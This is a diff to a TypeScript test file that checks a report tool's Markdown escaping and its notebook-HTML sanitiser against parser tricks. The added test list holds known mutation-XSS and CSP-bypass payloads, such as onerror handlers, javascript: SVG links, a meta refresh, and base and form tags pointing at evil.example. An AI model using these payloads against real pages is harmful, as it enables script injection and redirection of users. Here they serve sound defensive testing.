@@ -7,10 +7,12 @@
 import assert from "node:assert/strict";
 import { parse } from "csv-parse/sync";
 import { DOMParser } from "linkedom";
+import { parse as parse5 } from "parse5";
+import { renderNotebook } from "../scripts/runner/html.ts";
 import { csvTable, markdownHtml, showTable } from "../lib/display.ts";
 import { loadCaseSeries } from "../lib/load.ts";
 import { isSafeLink, markdownText } from "../lib/markdown.ts";
-import { caseIntro } from "../lib/report/mod.ts";
+import { caseCaveats, caseIntro, robustnessSummary } from "../lib/report/mod.ts";
 import { TEST_DATA_DIR } from "./helpers/data_dir.ts";
 import { withResultsDir } from "./helpers/results_dir.ts";
 
@@ -93,6 +95,40 @@ Deno.test("data text in a case's Markdown (cause, citation) shows as written, ne
   }
 });
 
+Deno.test("data text in a case's caveats (the natural-history figures' study, measure, citation) shows as written", async () => {
+  const s = await loadCaseSeries(TEST_DATA_DIR);
+  const payload = "[click](https://evil.example/x) *em* <b>b</b>";
+  const figures = (s.articles?.naturalHistory ?? []).map((f) => ({
+    ...f,
+    study: payload,
+    citation: `${payload} 2001;1:1.`,
+    measure: payload,
+    design: payload,
+    group: payload,
+    time: payload,
+  }));
+  assert.ok(figures.some((f) => f.value !== null && f.unit === "percent"), "a figure is cited");
+  const series = { ...s, articles: { ...s.articles!, naturalHistory: figures } };
+  const html = markdownHtml(caseCaveats(series, s.cases[0]));
+  const doc = new DOMParser().parseFromString(`<html><body>${html}</body></html>`, "text/html");
+  // A bare http(s) URL in the text may show as a link to itself (GFM), nothing else.
+  for (const a of doc.querySelectorAll("a")) assert.equal(a.textContent, a.getAttribute("href"));
+  assert.equal(doc.querySelectorAll("em, b, strong").length, 0, html);
+  assert.ok((doc.body.textContent ?? "").includes("[click](https://evil.example/x) *em*"), html);
+});
+
+Deno.test("a fragile claim in the robustness summary (its quote and where, from claims.csv) shows as written", () => {
+  const label = '"a *starred* quote" ([Discussion](https://evil.example/x) <b>b</b>)';
+  const md = robustnessSummary(1, 2, [
+    { id: "c", label, value: "partly supported", holds: 1, of: 2, differs: [] },
+  ]);
+  const html = markdownHtml(md);
+  const doc = new DOMParser().parseFromString(`<html><body>${html}</body></html>`, "text/html");
+  for (const a of doc.querySelectorAll("a")) assert.equal(a.textContent, a.getAttribute("href"));
+  assert.equal(doc.querySelectorAll("em, b, strong").length, 0, html);
+  assert.ok((doc.body.textContent ?? "").includes(label), html);
+});
+
 Deno.test("markdownText escapes what Markdown would read and leaves ordinary text as it is", () => {
   assert.equal(markdownText("a [b](c) *d*"), "a \\[b\\](c) \\*d\\*");
   assert.equal(markdownText("# title"), "\\# title");
@@ -148,4 +184,149 @@ Deno.test("csvTable: a number written out as text is a number, not a formula to 
     csvTable([{ c: "-2" }, { c: "[-4, -3]" }, { c: "-2+cmd" }, { c: "-2.50" }]),
     "c\n-2\n\"[-4, -3]\"\n'-2+cmd\n'-2.50\n",
   );
+});
+
+/**
+ * HTML a notebook's output may carry that a parser other than the browser's could read otherwise
+ * (mutation XSS), or that a Content-Security-Policy does not stop (a refresh, a base, a form).
+ */
+const PARSER_TRICKS = [
+  "<!--a--!><img src=x onerror=alert(1)><meta http-equiv=refresh content='0;url=https://evil.example/'>-->",
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+  "<svg><style><img src=x onerror=alert(1)></style></svg>",
+  '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
+  '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
+  '<svg><image href="https://evil.example/x.png"/><use href="https://evil.example/x.svg#a"/></svg>',
+  '<video poster="https://evil.example/p.png"></video><table background="https://evil.example/b.png"></table>',
+  '<style>body{background:url(https://evil.example/x)}</style><p style="background:url(//evil.example/y)">p</p>',
+  '<base href="https://evil.example/"><a href="x">relative</a>',
+  '<form action="https://evil.example"><input name="q"><button>go</button></form>',
+  '<img srcset="https://evil.example/x.png 1x" src="data:image/png;base64,AA==">',
+  '<a href="https://ok.example" ping="https://evil.example/ping">ok</a>',
+  "<template><img src=x onerror=alert(1)></template><xmp><img src=x onerror=1></xmp>",
+];
+
+/** Every element of a page's body as a browser parses it (parse5 follows the HTML standard). */
+function browserElements(page: string) {
+  const out: { tag: string; attrs: Record<string, string> }[] = [];
+  let comments = 0;
+  // deno-lint-ignore no-explicit-any
+  const walk = (node: any) => {
+    if (node.nodeName === "#comment") comments++;
+    if (node.tagName) {
+      out.push({
+        tag: node.tagName,
+        attrs: Object.fromEntries(node.attrs.map((a: Attribute) => [a.name, a.value])),
+      });
+    }
+    for (const c of node.childNodes ?? []) walk(c);
+    if (node.content) walk(node.content);
+  };
+  walk(parse5(page));
+  return { elements: out, comments };
+}
+type Attribute = { name: string; value: string };
+
+/** What none of these payloads may leave in a page's body, as a browser parses it. */
+const LIVE_TAGS = new Set([
+  "base",
+  "form",
+  "iframe",
+  "input",
+  "math",
+  "meta",
+  "noscript",
+  "script",
+  "style",
+  "svg",
+  "template",
+  "video",
+  "xmp",
+]);
+
+/**
+ * Whether an attribute is inert: no event, style or fetching attribute, images embedded, links
+ * http(s) or relative.
+ */
+function inertAttribute(name: string, value: string): boolean {
+  if (name === "src") return /^data:image\//.test(value);
+  if (/^on|^(style|srcset|poster|background|ping|action|formaction)$/i.test(name)) return false;
+  return name !== "href" || /^https?:\/\//.test(value) ||
+    !/^([a-z][a-z0-9+.-]*:|\/\/)/i.test(value);
+}
+
+Deno.test("an HTML page parsed as a browser parses it: no element, attribute or URL the sanitiser removes survives a parser trick", () => {
+  for (const payload of PARSER_TRICKS) {
+    const page = renderNotebook({
+      cells: [{
+        cell_type: "code",
+        source: "1",
+        metadata: {},
+        execution_count: 1,
+        outputs: [{
+          output_type: "display_data",
+          metadata: {},
+          data: { "text/html": payload, "text/plain": "x" },
+        }],
+      }],
+      metadata: {},
+      nbformat: 4,
+      nbformat_minor: 5,
+    }, "t");
+    const { elements, comments } = browserElements(page);
+    assert.equal(comments, 0, `${payload}: no comment`);
+    const body = elements.slice(elements.findIndex((e) => e.tag === "body"));
+    assert.ok(body.length > 1, "the page has a body");
+    for (const { tag, attrs } of body) {
+      assert.ok(!LIVE_TAGS.has(tag), `${payload}: <${tag}> in the body`);
+      for (const [name, value] of Object.entries(attrs)) {
+        assert.ok(inertAttribute(name, value), `${payload}: <${tag} ${name}="${value}">`);
+      }
+    }
+  }
+});
+
+Deno.test("an HTML page: a figure's PNG data that is not base64 cannot close its attribute", () => {
+  const payload =
+    'AA=="/><meta/http-equiv="refresh"/content="0;url=https://evil.example/"><img/src="x';
+  const page = renderNotebook({
+    cells: [{
+      cell_type: "code",
+      source: "1",
+      metadata: {},
+      execution_count: 1,
+      outputs: [{
+        output_type: "display_data",
+        metadata: {},
+        data: { "image/png": payload, "text/plain": "a figure" },
+      }],
+    }],
+    metadata: {},
+    nbformat: 4,
+    nbformat_minor: 5,
+  }, "t");
+  const { elements } = browserElements(page);
+  const body = elements.slice(elements.findIndex((e) => e.tag === "body"));
+  for (const { tag, attrs } of body) {
+    assert.ok(!LIVE_TAGS.has(tag), `<${tag}> in the body`);
+    for (const [name, value] of Object.entries(attrs)) {
+      assert.ok(inertAttribute(name, value), `<${tag} ${name}="${value}">`);
+    }
+  }
+  assert.match(page, /a figure/, "its text is shown instead");
+});
+
+Deno.test("a figure whose text holds characters XML does not allow (a form feed from a PDF's text, NUL) is still a figure", async () => {
+  const Plot = await import("@observablehq/plot");
+  const { plot, pngBytes, svgText } = await import("../lib/plots/mod.ts");
+  const { svgElement, titled } = await import("../lib/plots/dom.ts");
+  const figure = plot({ title: "page\fbreak", marks: [Plot.dot([1], { x: (d: number) => d })] });
+  figure.svg.appendChild(titled(svgElement("circle", { r: 3 }), "a quote\u0000 \ud800 \u0007"));
+  const svg = svgText(figure);
+  // deno-lint-ignore no-control-regex
+  assert.doesNotMatch(svg, /[\u0000-\u0008\u000b\u000c\u000e-\u001f\ud800-\udfff]/u);
+  assert.match(svg, /page break/, "a form feed is a space");
+  const png = await pngBytes(figure);
+  assert.deepEqual([...png.slice(0, 4)], [137, 80, 78, 71], "it rasterises");
 });
